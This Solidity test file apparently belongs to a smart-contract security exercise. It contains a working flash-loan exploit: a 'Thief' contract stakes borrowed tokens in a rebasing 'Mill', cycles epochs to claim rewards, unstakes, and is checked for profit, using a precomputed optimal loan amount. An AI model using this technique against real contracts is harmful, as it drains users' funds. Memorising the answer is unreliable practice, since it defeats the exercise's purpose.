// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Granary} from "../rebase-index/src/Granary.sol";
import {Mill} from "../rebase-index/src/Mill.sol";
import {FlashLender, Token} from "../rebase-index/src/Imports.sol";
import {IFlashBorrower} from "../../shared/IFlashBorrower.sol";

interface Vm {
    function prank(address sender) external;
    function roll(uint256 number) external;
    function warp(uint256 time) external;
}

contract Thief is IFlashBorrower {
    Token private immutable grain;
    Mill private immutable mill;

    constructor(Token grain_, Mill mill_) {
        grain = grain_;
        mill = mill_;
        grain.approve(address(mill), type(uint256).max);
    }

    function attack(FlashLender lender, uint256 amount) external {
        lender.flashLoan(this, address(grain), amount, "");
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        mill.stake(grain.balanceOf(address(this)));
        mill.turn();
        mill.claim();
        for (uint256 epochs; epochs < 3; ++epochs) mill.turn();
        mill.unstake(mill.sharesOf(address(this)));
        grain.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}

contract RebaseIndexTest {
    event Profit(uint256 grains);

    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    address private attacker = address(uint160(uint256(keccak256("heist actor attacker"))));
    address private admin = address(uint160(uint256(keccak256("heist actor admin"))));
    address private alice = address(uint160(uint256(keccak256("heist actor alice"))));
    address private bob = address(uint160(uint256(keccak256("heist actor bob"))));
    address private carol = address(uint160(uint256(keccak256("heist actor carol"))));
    Token private grain;
    Granary private granary;
    Mill private mill;
    FlashLender private lender;

    function setUp() public {
        vm.roll(1);
        vm.warp(1_700_000_000);
        vm.prank(admin);
        grain = new Token("Grain", "GRN");
        vm.prank(admin);
        granary = new Granary(grain);
        vm.prank(admin);
        mill = new Mill(grain, granary, 10000 ether);
        vm.prank(admin);
        lender = new FlashLender(5);
        vm.prank(admin);
        granary.setMill(address(mill));
        vm.prank(admin);
        grain.mint(address(granary), 900000 ether);
        vm.prank(admin);
        grain.mint(alice, 1300000 ether);
        vm.prank(admin);
        grain.mint(bob, 900000 ether);
        vm.prank(admin);
        grain.mint(carol, 250000 ether);
        vm.prank(admin);
        grain.mint(attacker, 50000 ether);
        vm.prank(admin);
        grain.mint(address(lender), 15000000 ether);
        vm.prank(alice);
        grain.approve(address(mill), 1e60);
        vm.prank(bob);
        grain.approve(address(mill), 1e60);
        vm.prank(carol);
        grain.approve(address(mill), 1e60);
        vm.prank(attacker);
        grain.approve(address(mill), 1e60);
        vm.prank(alice);
        mill.stake(1200000 ether);
        vm.prank(bob);
        mill.stake(790000 ether);
        vm.roll(block.number + 2400);
        vm.warp(block.timestamp + 8 hours);
        vm.prank(alice);
        mill.turn();
        vm.prank(alice);
        mill.claim();
        vm.prank(bob);
        mill.claim();
        vm.roll(block.number + 2400);
        vm.warp(block.timestamp + 8 hours);
        vm.prank(bob);
        mill.turn();
        vm.roll(block.number + 14500);
        vm.warp(block.timestamp + 175000 seconds);
    }

    function test_attack_pays() public {
        vm.prank(attacker);
        Thief thief = new Thief(grain, mill);
        vm.prank(attacker);
        grain.transfer(address(thief), 25_000 ether);
        // See rebase-index/optimum.md.
        thief.attack(lender, 10_667_198_867_037_190_000_000_000);
        uint256 profit = grain.balanceOf(address(thief)) - 25_000 ether;
        emit Profit(profit);
        require(profit > 28_000 ether, "no profit");
    }
}
